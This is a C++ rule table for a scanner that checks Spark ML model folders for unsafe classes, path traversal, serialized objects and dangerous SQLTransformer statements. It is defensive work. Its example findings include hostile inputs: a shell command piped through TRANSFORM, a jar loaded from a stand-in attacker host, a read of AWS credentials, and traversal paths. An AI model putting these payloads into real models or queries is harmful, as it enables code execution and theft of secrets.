#include "analyzers/sparkml/rules.h"

#include <array>
#include <cctype>

namespace mg::sparkml {
namespace {

constexpr std::array kRules = {
    RuleInfo{rule::kMalformed, Severity::kMedium, "Spark metadata that could not be read",
             "The metadata part file is not one JSON object with a string \"class\", is too large "
             "or too deeply nested. Spark would fail to load it, or read it differently; the "
             "model is reported incomplete.",
             "metadata/part-00000: not JSON that could be read: syntax error at byte 12"},
    RuleInfo{rule::kMultipleLines, Severity::kMedium, "Metadata file with more than one line",
             "Spark reads only the first row of metadata/ (read.text(...).first()). Further "
             "non-empty lines are ignored by Spark but may be what another tool shows; "
             "every line is analysed.",
             "metadata/part-00000: 2 non-empty lines"},
    RuleInfo{rule::kDuplicateKey, Severity::kMedium, "Duplicate key in Spark metadata",
             "A key appears twice in one object; json4s and Python's json keep different "
             "copies, so what is checked may not be what loads.",
             "/paramMap/statement"},
    RuleInfo{rule::kJdkClass, Severity::kCritical, "Metadata names a JDK or Scala system class",
             "The loader resolves \"class\" by reflection (Utils.classForName) and calls its "
             "(String) constructor with the uid; a JDK class such as java.io.FileOutputStream "
             "creates or truncates the file named by the uid. Never a Spark stage.",
             "/class: java.io.FileOutputStream (uid /tmp/x)"},
    RuleInfo{rule::kUnknownClass, Severity::kHigh, "Metadata names a class Spark does not ship",
             "\"class\" is not one of Spark's own ML classes (org.apache.spark.ml.* or their "
             "pyspark.ml mirrors). The Scala loader loads it by reflection and constructs it "
             "with the uid; PySpark imports it as a Python module. It runs whatever code that "
             "class has on the classpath: allow it only for libraries you trust.",
             "/class: com.example.CustomStage"},
    RuleInfo{rule::kPythonClass, Severity::kHigh, "Metadata names a Python class to import",
             "A PySpark stage (class outside pyspark.ml, or a Python-written pipeline): "
             "PySpark __import__s the module and calls its load(path) or constructor. Critical "
             "when the module deserializes or executes (the pickle analyzer's global list).",
             "/class: subprocess.Popen (import subprocess: command execution)"},
    RuleInfo{rule::kPolicyDeniedClass, Severity::kCritical, "Class denied by the policy",
             "A stage's \"class\" is named by the policy's deny.sparkml_classes list (exactly "
             "or by a 'package.*' prefix), Spark's own classes included (a cluster that bans "
             "SQLTransformer). Reported only by `modelgate check`; critical, so it blocks "
             "whatever findings.block_at says.",
             "/class: org.apache.spark.ml.feature.SQLTransformer (policy deny entry "
             "'org.apache.spark.ml.feature.SQLTransformer')"},
    RuleInfo{rule::kPolicyDeniedModule, Severity::kCritical, "PySpark module denied by the policy",
             "The module of a stage's \"class\" (the class name without its last component, "
             "what PySpark imports) is named by the policy's deny.pyspark_modules list. "
             "Reported only by `modelgate check`; critical, so it blocks whatever "
             "findings.block_at says.",
             "/class: mylab.stages.Scaler (policy deny entry 'mylab.*')"},
    RuleInfo{rule::kBadUid, Severity::kHigh, "Stage uid is not a plain name",
             "uids must match [A-Za-z0-9_-]{1,128}. Pipelines build stage folders as "
             "stages/<idx>_<uid> with Hadoop Path joins, so a uid with '/', '..' or a scheme "
             "points the loader outside the model (high); other characters are medium.",
             "/paramMap/stageUids/1: ../../tmp/evil"},
    RuleInfo{rule::kEpmPath, Severity::kHigh, "Tuning param map value is not an epm_ folder",
             "estimatorParamMaps entries with isJson false name a folder the validator loads "
             "with new Path(modelDir, value); an absolute path, a URI or '..' loads (and "
             "reflects on) a model outside the scanned folder. Spark writes epm_<param><n>.",
             "/paramMap/estimatorParamMaps/0/0/value: ../x"},
    RuleInfo{rule::kPathValue, Severity::kHigh, "Parameter value is a path outside the model",
             "A string parameter, or a Spark Connect core_model_path, is an absolute path, a URI "
             "or contains '..'. Spark's own stages keep no such paths; a loader or custom stage "
             "may read or write there.",
             "/paramMap/modelPath: /etc/passwd"},
    RuleInfo{rule::kLimit, Severity::kMedium, "Spark model beyond the analysis limits",
             "A count read from metadata (stages, numClasses, folds, param maps) or a folder "
             "listing is over modelgate's limits; only part was checked. Loop counts this "
             "large are also a denial of service against the loader.",
             "/numClasses: 100000000 (limit 4096)"},
    RuleInfo{rule::kSparkVersion, Severity::kInfo, "Spark version that wrote the model",
             "Recorded for the report: sparkVersion of the metadata and the stage class.",
             "/sparkVersion: 3.5.1 (org.apache.spark.ml.PipelineModel)"},
    RuleInfo{rule::kVersionAdvisory, Severity::kLow, "Written by a Spark release with advisories",
             "The metadata's sparkVersion is in the affected range of advisories on the bundled "
             "list (docs/advisories.md), so a loader on the same release would be exposed; load "
             "the model with the fixed release the message names. Low: the version describes "
             "where the model was saved, not where it will be loaded (`modelgate audit-env` "
             "checks the loading environment).",
             "/sparkVersion: 4.0.0-rc4"},
    RuleInfo{rule::kMultipleParts, Severity::kMedium, "metadata/ holds more than one part file",
             "Spark reads the first row of the folder; which file is first depends on the file "
             "system and split order, so two part files make the loaded metadata ambiguous.",
             "metadata/: part-00000, part-00001"},
    RuleInfo{rule::kUnexpectedFile, Severity::kLow, "Unexpected file in a Spark model folder",
             "A file or folder Spark's writers never create at that place (hidden files other "
             "than Hadoop .crc checksums, unknown subfolders). Not loaded by Spark, but a place "
             "to hide a payload for other tools; the engine scans it anyway.",
             "model/notes.pkl"},
    RuleInfo{rule::kComplexParams, Severity::kHigh, "complexParams/ folder (serialized objects)",
             "SynapseML-style complexParams/ hold Java-serialized or pickled objects (UDFs, "
             "models) that are deserialized on load.",
             "model/complexParams/udf"},
    RuleInfo{rule::kMissingStage, Severity::kMedium, "A stage the metadata names is missing",
             "The loader will look for this folder (stages/<idx>_<uid>, bestModel, model_<i>, "
             "an epm_ folder ...) and fail, or read one placed later; it was not checked.",
             "stages/2_logreg_aaaaaaaaaaaa (stageUids[2])"},
    RuleInfo{rule::kExtraStage, Severity::kMedium, "A stage folder the metadata does not name",
             "A folder under stages/ that no stageUids entry points at (or with the wrong zero "
             "padding): Spark never loads it, so it is either leftover or a decoy.",
             "stages/7_evil_000000000000"},
    RuleInfo{rule::kPositionMismatch, Severity::kHigh, "Nested stage of the wrong kind",
             "The class of a nested stage does not fit its position: bestModel and "
             "model_<i> must be models, estimator an estimator, evaluator an evaluator, "
             "pipelineModel a PipelineModel, PipelineModel stages transformers. A loader "
             "casting it would load it by reflection first.",
             "bestModel/metadata: org.apache.spark.ml.classification.LogisticRegression is an "
             "estimator, a model is expected"},
    RuleInfo{rule::kBrokenParquet, Severity::kMedium, "Model data part is not Parquet",
             "A part file under data/ or treesMetadata/ lacks the PAR1 magic at either end or "
             "has a footer length that does not fit the file; Spark reads these with "
             "read.parquet, so the file is either corrupt or something else in disguise.",
             "data/part-00000.snappy.parquet: no PAR1 magic at the end"},
    RuleInfo{rule::kJavaSerialized, Severity::kHigh, "Java-serialized object in a Spark model",
             "A file in the model folder, metadata/ or a data folder starts with Java "
             "serialization's magic (AC ED 00 05). Spark's own stages never write one; "
             "deserializing it runs readObject code of the classes it names (gadget chains).",
             "data/part-00000.snappy.parquet"},
    RuleInfo{rule::kFolderIncomplete, Severity::kMedium, "Model folder could not be listed",
             "A folder of the model could not be read; its stages were not checked.",
             "stages: permission denied"},
    RuleInfo{rule::kClassRelease, Severity::kLow, "Class the named Spark release does not ship",
             "The metadata's sparkVersion names a release that did not have the class (added "
             "later, or removed), so no Spark of that version wrote this file: it was edited or "
             "assembled by hand. Roles follow the release too: OneHotEncoder is a transformer "
             "before 3.0 and an estimator since.",
             "/class: org.apache.spark.ml.feature.TargetEncoderModel (sparkVersion 3.5)"},
    RuleInfo{rule::kUidMismatch, Severity::kLow, "Nested stage uid differs from its parent's",
             "Spark's writers save a pipeline stage under the uid the pipeline lists, and an "
             "RFormulaModel's pipelineModel under the RFormula's own uid. The loaders do not "
             "compare them, so a mismatch loads, but only a hand-made folder has one.",
             "stages/1_hashingTF_f4565fe7f7da/metadata/part-00000: uid tokenizer_0a1b"},
    RuleInfo{"SPARKML-SQL-SCRIPT-TRANSFORM", Severity::kCritical,
             "SQLTransformer runs an external command",
             "TRANSFORM/MAP/REDUCE ... USING '<command>' pipes rows through a process.",
             "TRANSFORM(a) USING 'sh -c id'"},
    RuleInfo{"SPARKML-SQL-REFLECTION", Severity::kCritical, "SQLTransformer calls Java methods",
             "reflect / java_method / try_reflect call any static Java method.",
             "reflect('java.lang.Runtime', ...)"},
    RuleInfo{"SPARKML-SQL-CODE-LOADING", Severity::kCritical, "SQLTransformer loads code",
             "ADD JAR|FILE|ARCHIVE or CREATE FUNCTION ... USING JAR adds code to the session.",
             "ADD JAR 'http://attacker.invalid/x.jar'"},
    RuleInfo{"SPARKML-SQL-DYNAMIC-SQL", Severity::kCritical, "SQLTransformer builds SQL at run time",
             "EXECUTE IMMEDIATE, SQL scripting or IDENTIFIER(expr): the SQL that runs is not in "
             "the file.", "EXECUTE IMMEDIATE ..."},
    RuleInfo{"SPARKML-SQL-WRITE-DIRECTORY", Severity::kCritical, "SQLTransformer writes files",
             "INSERT OVERWRITE [LOCAL] DIRECTORY writes query results to a path.",
             "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x'"},
    RuleInfo{"SPARKML-SQL-CREDENTIAL-PATH", Severity::kCritical,
             "SQLTransformer reads a credentials file", "A path relation names secrets.",
             "text.`/root/.aws/credentials`"},
    RuleInfo{"SPARKML-SQL-FILE-RELATION", Severity::kHigh, "SQLTransformer reads files by path",
             "<format>.`<path>` reads files or URIs directly.", "parquet.`/data/x`"},
    RuleInfo{"SPARKML-SQL-OTHER-TABLE", Severity::kHigh, "SQLTransformer reads another table",
             "A table other than __THIS__ (or a CTE of the statement).", "FROM users"},
    RuleInfo{"SPARKML-SQL-SET-CONFIG", Severity::kHigh, "SQLTransformer changes configuration",
             "SET key=value changes Spark or Hadoop configuration.", "SET spark.x=y"},
    RuleInfo{"SPARKML-SQL-MULTIPLE-STATEMENTS", Severity::kHigh,
             "SQLTransformer has several statements", "More than one statement.",
             "SELECT 1; DROP TABLE t"},
    RuleInfo{"SPARKML-SQL-COMMAND", Severity::kHigh, "SQLTransformer runs a command",
             "DDL, DML or another command (high or medium, see the message).", "DROP TABLE t"},
    RuleInfo{"SPARKML-SQL-UNKNOWN-FUNCTION", Severity::kMedium,
             "SQLTransformer calls a function Spark does not ship",
             "A UDF registered elsewhere runs whatever code it was registered with.",
             "my_udf(x)"},
    RuleInfo{"SPARKML-SQL-NOT-QUERY", Severity::kMedium, "SQLTransformer statement is not a query",
             "The statement is not a SELECT/WITH query.", "SHOW TABLES"},
    RuleInfo{"SPARKML-SQL-UNPARSEABLE", Severity::kMedium, "SQLTransformer statement does not lex",
             "Unterminated string or comment; the statement was not fully checked.",
             "SELECT 'abc"},
    RuleInfo{"SPARKML-SQL-TOO-LARGE", Severity::kMedium,
             "SQLTransformer statement over the limits",
             "Only the part lexed within the limits was checked.", "(statement of 2 MB)"},
};

}  // namespace

std::string SqlRuleId(sparksql::SqlIssueKind kind) {
  std::string id = "SPARKML-SQL-";
  for (const char c : sparksql::SqlIssueKindName(kind)) {
    id.push_back(static_cast<char>(std::toupper(static_cast<unsigned char>(c))));
  }
  return id;
}

std::span<const RuleInfo> Rules() { return kRules; }

}  // namespace mg::sparkml
